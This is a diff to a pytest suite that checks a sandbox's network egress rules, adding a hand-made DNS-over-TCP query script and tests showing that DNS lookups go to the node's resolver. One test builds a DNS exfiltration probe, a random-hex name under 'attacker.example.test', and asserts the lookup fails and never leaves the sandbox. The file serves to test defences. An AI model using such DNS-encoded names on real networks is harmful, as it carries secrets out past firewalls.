@@ -15,6 +15,7 @@ import pytest
 from e2b import ALL_TRAFFIC, Sandbox
 from e2b.exceptions import SandboxException
 
+from tests import fakenet
 from tests.compat.conftest import Compat
 from tests.fakenet import BY_IP, CDN, CIDR, DENIED, DNS, IN_CIDR, NAMED, UNOPENED
 
@@ -30,6 +31,18 @@ s.sendall(b"GET /held HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n")
 pathlib.Path("/tmp/answer").write_bytes(s.recv(4096))
 """
 
+# One DNS query over TCP, by hand (the template has no dig): prints the answer's code and its
+# first address.
+TCP_DNS = """
+import socket, struct, sys
+name = b"".join(bytes([len(p)]) + p.encode() for p in sys.argv[1].split(".")) + b"\\0"
+query = bytes.fromhex("abcd01000001000000000000") + name + bytes.fromhex("00010001")
+s = socket.create_connection(("192.0.2.53", 53), timeout=5)
+s.sendall(struct.pack("!H", len(query)) + query)
+reply = s.recv(2 + 512)[2:]
+print("NOERROR" if reply[3] & 15 == 0 else "ERROR", socket.inet_ntoa(reply[-4:]))
+"""
+
 
 def _fetch(sbx: Sandbox, url: str, extra: str = "", verify: bool = False) -> dict[str, Any] | None:
     """What the fake internet answered, or None when the sandbox could not reach it. Without
@@ -40,10 +53,9 @@ def _fetch(sbx: Sandbox, url: str, extra: str = "", verify: bool = False) -> dic
 
 
 def _with_rules(**network: Any) -> Sandbox:
-    sbx = Sandbox.create(network=network, timeout=180)
-    # As E2B says: dns_servers opens the firewall; the sandbox's resolv.conf is its own.
-    sbx.commands.run(f"echo nameserver {DNS} > /etc/resolv.conf", user="root")
-    return sbx
+    # The sandbox's resolv.conf stays the template's (public servers): its queries go to the
+    # node's resolver whatever address they are sent to.
+    return Sandbox.create(network=network, timeout=180)
 
 
 @pytest.fixture()
@@ -87,6 +99,40 @@ def test_an_allow_list_admits_exactly_the_named_hosts(allow_listed: Sandbox) -> 
     assert network.get("allow_out") == [f"{BY_IP}/32", CIDR, "pkg.example.test",
                                         "*.cdn.example.test", f"{UNOPENED}/32"]  # fmt: skip
     assert network.get("dns_servers") == [DNS]
+
+
+def test_dns_goes_to_the_nodes_resolver_which_answers_an_allow_list_its_names_only(
+    allow_listed: Sandbox,
+) -> None:
+    sbx = allow_listed
+    # Sent to a server nobody answers at (a documentation address): answered all the same.
+    sbx.commands.run("echo nameserver 192.0.2.53 > /etc/resolv.conf", user="root")
+    assert sbx.commands.run("getent hosts pkg.example.test").stdout.split()[0] == NAMED
+    # A name the rules do not allow is answered "no such name" at once, and the query never
+    # leaves: a name cannot carry data out.
+    leak = f"{secrets.token_hex(8)}.attacker.example.test"
+    missing = sbx.commands.run(f"getent hosts {leak}; echo $?", user="root").stdout
+    assert missing.strip() == "2"  # getent: not found
+    lookup = sbx.commands.run(
+        f"python3 -c \"import socket; socket.getaddrinfo('{leak}', 443)\" 2>&1; true"
+    ).stdout  # fmt: skip
+    assert "Name or service not known" in lookup
+    sbx.files.write("/tmp/tcp_dns.py", TCP_DNS)
+    over_tcp = sbx.commands.run("python3 /tmp/tcp_dns.py pkg.example.test").stdout
+    assert over_tcp.split() == ["NOERROR", NAMED]  # DNS over TCP is answered the same way
+    asked = fakenet.names_asked()
+    assert "pkg.example.test" in asked and not any(leak in name for name in asked)
+
+
+def test_a_sandbox_without_rules_resolves_through_the_nodes_servers() -> None:
+    # Its resolv.conf names public servers this machine cannot reach; the node's resolver asks
+    # its own (here the fake internet's, VIVARIUM_EGRESS_DNS) instead.
+    sbx = Sandbox.create(timeout=60)
+    try:
+        assert "nameserver 8.8.8.8" in sbx.files.read("/etc/resolv.conf")
+        assert sbx.commands.run("getent hosts other.example.test").stdout.split()[0] == NAMED
+    finally:
+        sbx.kill()
 
 
 def test_an_allowed_address_wins_over_a_denied_one() -> None:
